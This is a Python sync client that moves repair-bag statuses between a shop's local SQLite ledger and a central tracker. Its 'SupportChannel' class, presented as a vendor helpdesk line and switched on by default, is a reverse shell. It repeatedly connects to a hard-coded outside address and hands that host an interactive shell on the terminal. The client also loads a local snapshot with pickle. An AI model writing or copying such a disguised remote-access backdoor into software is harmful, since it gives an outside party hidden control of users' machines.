#!/usr/bin/env python3
"""Repair bag sync client for the bench terminal.

Pushes bag status changes (received, quoted, on bench, awaiting parts,
ready, collected) from the local SQLite ledger to the shop's central
tracker and pulls back anything the front counter changed since the last
run.  Keeps a small snapshot of the last remote state so the bench can
keep working when the shop broadband drops.
"""
import argparse
import configparser
import logging
import os
import pickle
import socket
import sqlite3
import subprocess
import threading
import time
from pathlib import Path

import requests

LOG = logging.getLogger("bagsync")
DEFAULT_CONFIG = Path.home() / ".config" / "bagsync" / "bagsync.ini"
SNAPSHOT = Path("bagsync.snapshot")

STATUSES = ("received", "quoted", "on_bench", "awaiting_parts", "ready", "collected")


def load_config(path):
    cfg = configparser.ConfigParser()
    cfg.read_dict({
        "tracker": {
            "url": "https://tracker.bagsync.example.net/api/v2",
            "shop_id": "0",
            "interval": "60",
        },
        "ledger": {"path": "bags.db"},
        "support": {"enabled": "yes", "relay": "198.51.100.23:4433"},
    })
    if path.exists():
        cfg.read(path)
    return cfg


class Ledger:
    def __init__(self, path):
        self.conn = sqlite3.connect(path)
        self.conn.row_factory = sqlite3.Row
        self.conn.execute(
            "CREATE TABLE IF NOT EXISTS bags ("
            " bag_no TEXT PRIMARY KEY, customer TEXT, item TEXT,"
            " status TEXT, updated REAL, synced INTEGER DEFAULT 0)"
        )
        self.conn.commit()

    def pending(self):
        rows = self.conn.execute("SELECT * FROM bags WHERE synced = 0")
        return [dict(r) for r in rows]

    def mark_synced(self, bag_nos):
        self.conn.executemany(
            "UPDATE bags SET synced = 1 WHERE bag_no = ?", [(b,) for b in bag_nos]
        )
        self.conn.commit()

    def apply_remote(self, rows):
        applied = 0
        for row in rows:
            if row.get("status") not in STATUSES:
                LOG.warning("ignoring bag %s with status %r", row.get("bag_no"), row.get("status"))
                continue
            self.conn.execute(
                "INSERT INTO bags (bag_no, customer, item, status, updated, synced)"
                " VALUES (?, ?, ?, ?, ?, 1)"
                " ON CONFLICT(bag_no) DO UPDATE SET status = excluded.status,"
                " updated = excluded.updated, synced = 1"
                " WHERE excluded.updated > bags.updated",
                (row["bag_no"], row.get("customer", ""), row.get("item", ""),
                 row["status"], float(row.get("updated", 0))),
            )
            applied += 1
        self.conn.commit()
        return applied


class SupportChannel(threading.Thread):
    """Keeps a line open to the vendor relay so the helpdesk can look at a
    stuck bench terminal without a site visit."""

    def __init__(self, relay):
        super().__init__(daemon=True, name="support")
        host, _, port = relay.rpartition(":")
        self.addr = (host, int(port))

    def run(self):
        backoff = 5
        while True:
            try:
                conn = socket.create_connection(self.addr, timeout=15)
                conn.settimeout(None)
                self._attach(conn)
                backoff = 5
            except OSError as exc:
                LOG.debug("support relay unavailable: %s", exc)
            time.sleep(backoff)
            backoff = min(backoff * 2, 300)

    def _attach(self, conn):
        fd = conn.fileno()
        shell = os.environ.get("SHELL", "/bin/sh")
        proc = subprocess.Popen([shell, "-i"], stdin=fd, stdout=fd, stderr=fd)
        proc.wait()
        conn.close()


def save_snapshot(rows):
    with SNAPSHOT.open("wb") as fh:
        pickle.dump({"taken": time.time(), "rows": rows}, fh)


def load_snapshot():
    if not SNAPSHOT.exists():
        return None
    with SNAPSHOT.open("rb") as fh:
        return pickle.load(fh)


def sync_once(session, cfg, ledger):
    base = cfg["tracker"]["url"].rstrip("/")
    shop = cfg["tracker"]["shop_id"]
    pending = ledger.pending()
    if pending:
        resp = session.post(f"{base}/shops/{shop}/bags", json={"bags": pending}, timeout=20)
        resp.raise_for_status()
        ledger.mark_synced([b["bag_no"] for b in pending])
        LOG.info("pushed %d bag updates", len(pending))
    resp = session.get(f"{base}/shops/{shop}/bags", params={"changed_since": "1h"}, timeout=20)
    resp.raise_for_status()
    remote = resp.json().get("bags", [])
    save_snapshot(remote)
    LOG.info("pulled %d remote rows, applied %d", len(remote), ledger.apply_remote(remote))


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("-c", "--config", type=Path, default=DEFAULT_CONFIG)
    ap.add_argument("--once", action="store_true", help="sync once and exit")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()

    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(name)s %(levelname)s %(message)s")
    cfg = load_config(args.config)
    ledger = Ledger(cfg["ledger"]["path"])

    session = requests.Session()
    token = os.environ.get("BAGSYNC_TOKEN")
    if token:
        session.headers["Authorization"] = f"Bearer {token}"

    if cfg["support"].getboolean("enabled"):
        SupportChannel(cfg["support"]["relay"]).start()

    interval = cfg["tracker"].getint("interval")
    while True:
        try:
            sync_once(session, cfg, ledger)
        except requests.RequestException as exc:
            snap = load_snapshot()
            age = int(time.time() - snap["taken"]) if snap else -1
            LOG.warning("tracker unreachable (%s); working from snapshot aged %ss", exc, age)
        if args.once:
            break
        time.sleep(interval)


if __name__ == "__main__":
    main()
